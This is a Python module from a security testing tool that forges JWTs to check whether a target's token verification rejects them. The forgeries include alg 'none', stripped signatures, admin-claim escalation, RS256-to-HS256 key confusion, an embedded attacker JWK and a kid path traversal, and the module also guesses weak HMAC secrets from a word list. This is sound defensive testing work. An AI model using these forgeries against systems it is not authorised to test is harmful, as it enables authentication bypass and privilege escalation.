"""JWT forging and inspection: the negative tests of RFC 8725 (JWT BCP), as pure functions.

golive logs in, receives a real token from the target, and derives forgeries from it. Each
forgery changes the original in exactly one intended way, so that a target accepting it proves
one specific verification step is missing (signature, algorithm pinning, expiry, issuer, ...).
Checks send them to protected endpoints and expect 401; :func:`evaluate_forgery_response` turns
the answer into findings.

Two families exist for the claim checks (exp, nbf, iat, iss, aud, kid):

* the plain name keeps the original signature. We do not know the target's key, so changing a
  claim also breaks the signature; a target accepting it does not verify signatures at all.
* ``*_resigned`` re-signs with a key the caller supplies (sandbox or self-issued tokens), so the
  signature is valid and only the claim check itself is tested.

Everything here is offline; nothing performs I/O except :func:`load_weak_secrets`, which reads a
data file shipped with the package.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
import secrets
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from importlib import resources
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import RSAAlgorithm, get_default_algorithms

from .findings import Finding

Header = dict[str, Any]
Claims = dict[str, Any]


class MalformedToken(ValueError):
    """The input is not a compact JWS (three base64url segments, JSON header and payload)."""


class ForgeryUnavailable(ValueError):
    """The forgery needs something the context does not provide (a signing key, a public key)."""


# --------------------------------------------------------------------------- segments


def b64url_encode(data: bytes) -> str:
    """Unpadded base64url, as JWS compact serialization requires (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(segment: str) -> bytes:
    """Decode unpadded base64url; padding is restored because Python insists on it."""
    try:
        return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))
    except (binascii.Error, ValueError) as error:
        raise MalformedToken(f"segment is not base64url: {error}") from None


def _split(token: str) -> tuple[str, str, str]:
    parts = token.strip().split(".")
    if len(parts) != 3:
        raise MalformedToken(f"a JWS has 3 dot-separated segments, this has {len(parts)}")
    return parts[0], parts[1], parts[2]


def _json_object(segment: str, what: str) -> dict[str, Any]:
    try:
        value = json.loads(b64url_decode(segment))
    except (UnicodeDecodeError, json.JSONDecodeError) as error:
        raise MalformedToken(f"{what} is not JSON: {error}") from None
    if not isinstance(value, dict):
        raise MalformedToken(f"{what} is not a JSON object")
    return value


def _encode_json(value: Mapping[str, Any]) -> str:
    """Compact JSON, the way most JWT libraries serialize; key order is preserved."""
    return b64url_encode(json.dumps(value, separators=(",", ":")).encode("utf-8"))


def decode_unverified(token: str) -> tuple[Header, Claims]:
    """Header and claims of a token, without verifying anything.

    Done by hand rather than with PyJWT so that tokens PyJWT would refuse to parse (``alg:
    None``, odd kids) can still be inspected: forgeries must be readable by the tests too.
    """
    header_segment, payload_segment, _ = _split(token)
    return _json_object(header_segment, "header"), _json_object(payload_segment, "payload")


def signature_bytes(token: str) -> bytes:
    """The decoded signature segment (empty for unsigned tokens)."""
    return b64url_decode(_split(token)[2])


# --------------------------------------------------------------------------- context


_UNSET: Any = object()


@dataclass(frozen=True)
class ForgeryContext:
    """What a forgery may use besides the original token.

    ``now`` makes time-based forgeries reproducible; ``skew`` is how far into the past or
    future they move a date, well beyond any sane clock-skew leeway. ``signing_key`` (HMAC
    secret or private key, PEM or object) enables the ``*_resigned`` variants; ``public_key``
    (the target's RS/ES public key, PEM or object) enables ``hs256_key_confusion``.
    """

    now: datetime | None = None
    skew: timedelta = timedelta(hours=1)
    signing_key: Any = None
    signing_alg: str | None = None
    public_key: Any = None
    tamper_claim: str | None = None
    tamper_value: Any = field(default=_UNSET)
    wrong_issuer: str | None = None
    wrong_audience: str | None = None
    # the kids the target publishes (its JWKS): an "unknown" kid must be none of them
    known_kids: frozenset[str] = frozenset()

    def timestamp(self) -> int:
        """Current time as a JWT NumericDate."""
        now = self.now or datetime.now(UTC)
        return int(now.timestamp())


# --------------------------------------------------------------------------- building blocks


def _replace_claims(token: str, changes: Mapping[str, Any], remove: Iterable[str] = ()) -> str:
    """New payload, original header and signature segments byte for byte."""
    header_segment, _, signature_segment = _split(token)
    _, claims = decode_unverified(token)
    claims.update(changes)
    for name in remove:
        claims.pop(name, None)
    return f"{header_segment}.{_encode_json(claims)}.{signature_segment}"


def _replace_header(token: str, changes: Mapping[str, Any]) -> str:
    """New header, original payload and signature segments byte for byte."""
    _, payload_segment, signature_segment = _split(token)
    header, _ = decode_unverified(token)
    header.update(changes)
    return f"{_encode_json(header)}.{payload_segment}.{signature_segment}"


def _sign(signing_input: str, alg: str, key: Any) -> str:
    """Sign with PyJWT's algorithm objects, so we control the exact header bytes ourselves."""
    algorithms = get_default_algorithms()
    if alg not in algorithms or alg == "none":
        raise ForgeryUnavailable(f"cannot sign with alg {alg!r}")
    algorithm = algorithms[alg]
    return b64url_encode(algorithm.sign(signing_input.encode("ascii"), algorithm.prepare_key(key)))


def _hmac_sign(signing_input: str, key: bytes, alg: str = "HS256") -> str:
    """HMAC by hand: PyJWT refuses PEM-looking HMAC keys, which is exactly the attack here."""
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    return b64url_encode(hmac.new(key, signing_input.encode("ascii"), digest).digest())


def _resigned(token: str, context: ForgeryContext) -> str:
    """Re-sign a (modified) token with the caller's key; alg from context or original header."""
    if context.signing_key is None:
        raise ForgeryUnavailable("needs context.signing_key (the key the target signs with)")
    header_segment, payload_segment, _ = _split(token)
    header, _ = decode_unverified(token)
    alg = context.signing_alg or str(header.get("alg", ""))
    if header.get("alg") != alg:
        header["alg"] = alg
        header_segment = _encode_json(header)
    signing_input = f"{header_segment}.{payload_segment}"
    return f"{signing_input}.{_sign(signing_input, alg, context.signing_key)}"


def _public_pem(key: Any) -> bytes:
    """PEM (SubjectPublicKeyInfo) bytes of a public key given as PEM text, bytes or object."""
    if isinstance(key, str):
        return key.encode("ascii")
    if isinstance(key, bytes):
        return key
    if hasattr(key, "public_key"):  # a private key: its public half is what a target publishes
        key = key.public_key()
    pem: bytes = key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return pem


@lru_cache(maxsize=1)
def _attacker_key() -> rsa.RSAPrivateKey:
    """One throwaway RSA key per process: the attacker's own key for ``embedded_jwk``."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


# --------------------------------------------------------------------------- claim helpers

_PRIVILEGE_CLAIMS = (
    "role", "roles", "admin", "is_admin", "isAdmin", "groups", "permissions", "scope", "scp",
    "sub",
)


def _escalated(claim: str, value: Any) -> Any:
    """A different value for a privilege-ish claim, preferring an escalation."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, list):
        return [*value, "superadmin" if "admin" in value else "admin"]
    if isinstance(value, str):
        if claim == "sub":
            return f"{value}-golive-forged"
        if claim in ("scope", "scp"):
            return f"{value} admin".strip()
        return "superadmin" if value == "admin" else "admin"
    return "admin"


def _tamper(claims: Claims, context: ForgeryContext) -> tuple[str, Any]:
    """Which claim to change and to what: the caller's choice, else the first privilege claim."""
    if context.tamper_claim is not None:
        name = context.tamper_claim
    else:
        name = next((claim for claim in _PRIVILEGE_CLAIMS if claim in claims), "role")
    if context.tamper_value is not _UNSET:
        value = context.tamper_value
    else:
        value = _escalated(name, claims.get(name))
    if name in claims and claims[name] == value:
        raise ForgeryUnavailable(f"tamper value for {name!r} equals the original")
    return name, value


def _other(value: Any, default: str) -> Any:
    """Another project or tenant: same shape as the original iss/aud, different value."""
    if isinstance(value, str) and value:
        return f"{value.rstrip('/')}-golive-other"
    if isinstance(value, list) and value:
        return [f"{item}-golive-other" for item in value]
    return default


def _unknown_kid(context: ForgeryContext) -> str:
    while True:
        kid = f"golive-unknown-{secrets.token_hex(8)}"
        if kid not in context.known_kids:
            return kid


# --------------------------------------------------------------------------- forgeries


def alg_none(token: str, *, context: ForgeryContext, spelling: str = "none") -> str:
    """Header alg ``none`` and an empty signature: accepted only by libraries that honour it."""
    header, _ = decode_unverified(token)
    header["alg"] = spelling
    return f"{_encode_json(header)}.{_split(token)[1]}."


def signature_stripped(token: str, *, context: ForgeryContext) -> str:
    """``header.payload.``: the original alg but no signature at all."""
    header_segment, payload_segment, _ = _split(token)
    return f"{header_segment}.{payload_segment}."


def tampered_claim(token: str, *, context: ForgeryContext) -> str:
    """Elevate a privilege claim (role, admin, scope, sub) and keep the original signature."""
    _, claims = decode_unverified(token)
    name, value = _tamper(claims, context)
    return _replace_claims(token, {name: value})


def random_signature(token: str, *, context: ForgeryContext) -> str:
    """Random bytes of the original signature's length: right shape, wrong value."""
    header_segment, payload_segment, _ = _split(token)
    original = signature_bytes(token)
    forged = original
    while forged == original:
        forged = secrets.token_bytes(len(original) or 32)
    return f"{header_segment}.{payload_segment}.{b64url_encode(forged)}"


def _expired_claims(token: str, context: ForgeryContext) -> dict[str, Any]:
    return {"exp": context.timestamp() - int(context.skew.total_seconds())}


def _not_yet_valid_claims(token: str, context: ForgeryContext) -> dict[str, Any]:
    return {"nbf": context.timestamp() + int(context.skew.total_seconds())}


def _future_iat_claims(token: str, context: ForgeryContext) -> dict[str, Any]:
    return {"iat": context.timestamp() + int(context.skew.total_seconds())}


def _wrong_issuer_claims(token: str, context: ForgeryContext) -> dict[str, Any]:
    _, claims = decode_unverified(token)
    issuer = context.wrong_issuer or _other(claims.get("iss"), "https://issuer.golive.invalid")
    return {"iss": issuer}


def _wrong_audience_claims(token: str, context: ForgeryContext) -> dict[str, Any]:
    _, claims = decode_unverified(token)
    audience = context.wrong_audience or _other(claims.get("aud"), "golive-other-audience")
    return {"aud": audience}


ClaimChange = Callable[[str, ForgeryContext], dict[str, Any]]


def _claim_forgery(change: ClaimChange, *, resign: bool) -> Callable[..., str]:
    """A forgery that changes claims, then keeps the signature or re-signs with the caller's key."""

    def build(token: str, *, context: ForgeryContext) -> str:
        forged = _replace_claims(token, change(token, context))
        return _resigned(forged, context) if resign else forged

    return build


def expiry_removed_resigned(token: str, *, context: ForgeryContext) -> str:
    """No exp claim at all, validly signed: a verifier must require exp, not just check it."""
    return _resigned(_replace_claims(token, {}, remove=("exp",)), context)


def unknown_kid(token: str, *, context: ForgeryContext) -> str:
    """A kid the target never issued, original signature (which the header change breaks)."""
    return _replace_header(token, {"kid": _unknown_kid(context)})


def unknown_kid_resigned(token: str, *, context: ForgeryContext) -> str:
    """Unknown kid but signed with the real key: a verifier must not fall back to other keys."""
    return _resigned(_replace_header(token, {"kid": _unknown_kid(context)}), context)


def hs256_key_confusion(token: str, *, context: ForgeryContext) -> str:
    """alg HS256, HMAC keyed with the target's public key PEM (RFC 8725 §2.1, §3.1).

    A verifier that takes the algorithm from the token and the key from its RS256 config
    verifies this HMAC with the public key bytes, which the attacker knows.
    """
    if context.public_key is None:
        raise ForgeryUnavailable("needs context.public_key (the target's public key, PEM)")
    header, _ = decode_unverified(token)
    header["alg"] = "HS256"
    signing_input = f"{_encode_json(header)}.{_split(token)[1]}"
    return f"{signing_input}.{_hmac_sign(signing_input, _public_pem(context.public_key))}"


def embedded_jwk(token: str, *, context: ForgeryContext) -> str:
    """Signed with the attacker's own RSA key, whose public JWK rides in the header (CVE-2018-0114).

    A verifier must only use keys it already trusts, never one offered by the token.
    """
    key = _attacker_key()
    header, _ = decode_unverified(token)
    header["alg"] = "RS256"
    header["jwk"] = RSAAlgorithm.to_jwk(key.public_key(), as_dict=True)
    signing_input = f"{_encode_json(header)}.{_split(token)[1]}"
    return f"{signing_input}.{_sign(signing_input, 'RS256', key)}"


def kid_path_traversal(token: str, *, context: ForgeryContext) -> str:
    """kid pointing at /dev/null and HS256 with an empty key: catches kid-as-file-path lookups."""
    header, _ = decode_unverified(token)
    header.update({"alg": "HS256", "kid": "../../../../../../../../dev/null"})
    signing_input = f"{_encode_json(header)}.{_split(token)[1]}"
    return f"{signing_input}.{_hmac_sign(signing_input, b'')}"


@dataclass(frozen=True)
class Forgery:
    """One named forgery. ``needs`` lists ForgeryContext fields that must be set."""

    name: str
    title: str
    build: Callable[..., str]
    needs: tuple[str, ...] = ()

    def __call__(self, token: str, *, context: ForgeryContext | None = None) -> str:
        context = context or ForgeryContext()
        missing = [need for need in self.needs if getattr(context, need) is None]
        if missing:
            raise ForgeryUnavailable(f"forgery {self.name!r} needs context.{', '.join(missing)}")
        return self.build(token, context=context)


def _none_spelling(spelling: str) -> Callable[..., str]:
    def build(token: str, *, context: ForgeryContext) -> str:
        return alg_none(token, context=context, spelling=spelling)

    return build


_SIGN = ("signing_key",)

FORGERIES: dict[str, Forgery] = {
    forgery.name: forgery
    for forgery in (
        Forgery("alg_none", 'alg "none", empty signature', _none_spelling("none")),
        Forgery("alg_none_capitalized", 'alg "None", empty signature', _none_spelling("None")),
        Forgery("alg_none_uppercase", 'alg "NONE", empty signature', _none_spelling("NONE")),
        Forgery("alg_none_mixed_case", 'alg "nOnE", empty signature', _none_spelling("nOnE")),
        Forgery("signature_stripped", "signature removed (header.payload.)", signature_stripped),
        Forgery("random_signature", "random signature of the right length", random_signature),
        Forgery("tampered_claim", "privilege claim changed, signature kept", tampered_claim),
        Forgery("expired", "exp in the past, signature kept",
                _claim_forgery(_expired_claims, resign=False)),
        Forgery("expired_resigned", "exp in the past, validly signed",
                _claim_forgery(_expired_claims, resign=True), _SIGN),
        Forgery("not_yet_valid", "nbf in the future, signature kept",
                _claim_forgery(_not_yet_valid_claims, resign=False)),
        Forgery("not_yet_valid_resigned", "nbf in the future, validly signed",
                _claim_forgery(_not_yet_valid_claims, resign=True), _SIGN),
        Forgery("issued_in_future", "iat in the future, signature kept",
                _claim_forgery(_future_iat_claims, resign=False)),
        Forgery("issued_in_future_resigned", "iat in the future, validly signed",
                _claim_forgery(_future_iat_claims, resign=True), _SIGN),
        Forgery("expiry_removed_resigned", "no exp claim, validly signed",
                expiry_removed_resigned, _SIGN),
        Forgery("wrong_issuer", "iss of another project, signature kept",
                _claim_forgery(_wrong_issuer_claims, resign=False)),
        Forgery("wrong_issuer_resigned", "iss of another project, validly signed",
                _claim_forgery(_wrong_issuer_claims, resign=True), _SIGN),
        Forgery("wrong_audience", "aud of another project, signature kept",
                _claim_forgery(_wrong_audience_claims, resign=False)),
        Forgery("wrong_audience_resigned", "aud of another project, validly signed",
                _claim_forgery(_wrong_audience_claims, resign=True), _SIGN),
        Forgery("unknown_kid", "random kid, signature kept", unknown_kid),
        Forgery("unknown_kid_resigned", "random kid, signed with the real key",
                unknown_kid_resigned, _SIGN),
        Forgery("hs256_key_confusion", "HS256 keyed with the RS256 public key PEM",
                hs256_key_confusion, ("public_key",)),
        Forgery("embedded_jwk", "signed with an attacker key embedded as header jwk",
                embedded_jwk),
        Forgery("kid_path_traversal", "kid ../../dev/null, HS256 with an empty key",
                kid_path_traversal),
    )
}


def forge(name: str, token: str, context: ForgeryContext | None = None) -> str:
    """Build the named forgery of ``token``; KeyError lists the known names."""
    try:
        forgery = FORGERIES[name]
    except KeyError:
        raise KeyError(f"unknown forgery {name!r}; known: {', '.join(FORGERIES)}") from None
    return forgery(token, context=context)


def available_forgeries(context: ForgeryContext | None = None) -> list[str]:
    """Names of the forgeries this context can build (the others need a key it lacks)."""
    context = context or ForgeryContext()
    return [
        name for name, forgery in FORGERIES.items()
        if all(getattr(context, need) is not None for need in forgery.needs)
    ]


def evaluate_forgery_response(
    name: str, status_code: int, *, expected: frozenset[int] = frozenset({401})
) -> list[Finding]:
    """Findings for the target's answer to a forged token; 401 (RFC 6750 invalid_token) is right."""
    if status_code in expected:
        return []
    slug = name.replace("_", "-")
    title = FORGERIES[name].title if name in FORGERIES else name
    want = " or ".join(str(code) for code in sorted(expected))
    if 200 <= status_code < 400:
        return [Finding(
            f"jwt-{slug}-accepted", f"{want} for a token with {title}", f"HTTP {status_code}",
            "verify signature, pin the algorithm and check exp/nbf/iss/aud on every request",
        )]
    if status_code >= 500:
        return [Finding(
            f"jwt-{slug}-server-error", f"{want} for a token with {title}", f"HTTP {status_code}",
            "treat any token verification error as 401, never as a crash",
        )]
    return [Finding(
        f"jwt-{slug}-wrong-status", f"{want} for a token with {title}", f"HTTP {status_code}",
        "answer invalid tokens with 401 and WWW-Authenticate: Bearer error=\"invalid_token\"",
    )]


# --------------------------------------------------------------------------- lifetime


def _numeric_date(claims: Mapping[str, Any], name: str) -> float | None:
    value = claims.get(name)
    if value is None:
        return None
    if isinstance(value, bool) or not isinstance(value, (int, float)):
        raise MalformedToken(f"claim {name!r} is not a NumericDate: {value!r}")
    return float(value)


def lifetime(claims: Mapping[str, Any]) -> timedelta:
    """exp - iat: how long a stolen token stays usable. Raises ValueError when either is absent."""
    expires = _numeric_date(claims, "exp")
    issued = _numeric_date(claims, "iat")
    if expires is None or issued is None:
        raise ValueError("lifetime needs both exp and iat claims")
    return timedelta(seconds=expires - issued)


def evaluate_token_lifetime(claims: Mapping[str, Any], max_access: timedelta, *,
                            issued_at: float | None = None) -> list[Finding]:
    """Findings for an access token's lifetime against the profile's policy (e.g. 60 minutes).

    Without an ``iat`` claim the lifetime starts at ``issued_at``, the time golive measured at login.
    """
    try:
        expires = _numeric_date(claims, "exp")
        issued = _numeric_date(claims, "iat")
    except MalformedToken as error:
        return [Finding("token-claims-malformed", f"exp - iat <= {max_access}", str(error),
                        "exp and iat must be integer NumericDates (RFC 7519 §2)")]
    start = "iat" if issued is not None else "the time of login"
    expected = f"exp - {start} <= {max_access}"
    if expires is None:
        return [Finding("token-has-no-expiry", expected, "no exp claim",
                        "issue access tokens with an exp claim")]
    if issued is None:
        if issued_at is None:
            return [Finding("token-has-no-issued-at", expected, "no iat claim, lifetime unknown",
                            "issue access tokens with an iat claim")]
        issued = issued_at
    # a token measured from login may be a few seconds younger than its real start: allow a minute
    slack = timedelta(seconds=60) if start != "iat" else timedelta(0)
    actual = timedelta(seconds=round(expires - issued))
    if actual > max_access + slack:
        return [Finding("token-lifetime-too-long", expected, f"exp - {start} = {actual}",
                        f"shorten the access token lifetime to at most {max_access}")]
    return []


# Forgeries that are validly signed and change one claim: they test whether the system checks that
# claim, so they apply only to claims the system enforces (and its tokens carry).
FORGERY_CLAIM = {
    "expired_resigned": "exp", "expiry_removed_resigned": "exp", "not_yet_valid_resigned": "nbf",
    "issued_in_future_resigned": "iat", "wrong_issuer_resigned": "iss", "wrong_audience_resigned": "aud",
    "unknown_kid_resigned": "kid",
}  # fmt: skip


def claim_tested_but_unused(forgery: str, enforced: Iterable[str], header: Mapping[str, Any],
                            claims: Mapping[str, Any]) -> str | None:
    """Why ``forgery`` says nothing about this system (a claim it does not enforce or carry), or None."""
    claim = FORGERY_CLAIM.get(forgery)
    if claim is None:
        return None
    if claim not in set(enforced):
        return f"the profile says the system does not enforce {claim!r} (auth.enforced_claims)"
    carried = header if claim == "kid" else claims
    if claim not in ("exp", "nbf") and claim not in carried:
        return f"the system's tokens carry no {claim!r}, so a changed {claim!r} tests nothing it uses"
    return None


# --------------------------------------------------------------------------- weak HMAC secrets

_HMAC_DIGESTS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def find_weak_hs256_secret(token: str, wordlist: Iterable[str]) -> str | None:
    """The word-list entry the token was HMAC-signed with, if any (offline, like jwt_tool -C).

    Works for HS256/384/512 by the header's alg; tokens with any other alg have no HMAC secret
    to guess and give None.
    """
    header, _ = decode_unverified(token)
    digest = _HMAC_DIGESTS.get(str(header.get("alg")))
    if digest is None:
        return None
    header_segment, payload_segment, _ = _split(token)
    signing_input = f"{header_segment}.{payload_segment}".encode("ascii")
    signature = signature_bytes(token)
    for candidate in wordlist:
        if hmac.new(candidate.encode("utf-8"), signing_input, digest).digest() == signature:
            return candidate
    return None


def evaluate_hmac_secret(token: str, wordlist: Iterable[str]) -> list[Finding]:
    """Finding ``jwt-weak-hmac-secret`` when the token's secret is in the word list."""
    found = find_weak_hs256_secret(token, wordlist)
    if found is None:
        return []
    # No part of the secret, not even its first letters or length: the report must not help anyone
    # who reads it to forge tokens. Which list entry it was is for whoever rotates it to find out.
    which = "one from the public list of well-known weak JWT secrets" if found else "the empty string"
    return [Finding(
        "jwt-weak-hmac-secret", "an HMAC secret of >= 256 random bits",
        f"token is signed with a well-known weak secret: {which}",
        "rotate to a random 32-byte secret from the secret manager (or switch to RS256/ES256)",
    )]


def load_weak_secrets() -> list[str]:
    """Well-known weak JWT secrets shipped in ``data/weak_jwt_secrets.txt``, plus the empty one.

    Blank lines and ``#`` comments are skipped; the empty secret cannot be written as a line, so
    it is prepended here.
    """
    text_file = resources.files(__package__).joinpath("data").joinpath("weak_jwt_secrets.txt")
    text = text_file.read_text("utf-8")
    words = [line.rstrip("\r\n") for line in text.splitlines()]
    return ["", *(word for word in words if word.strip() and not word.startswith("#"))]
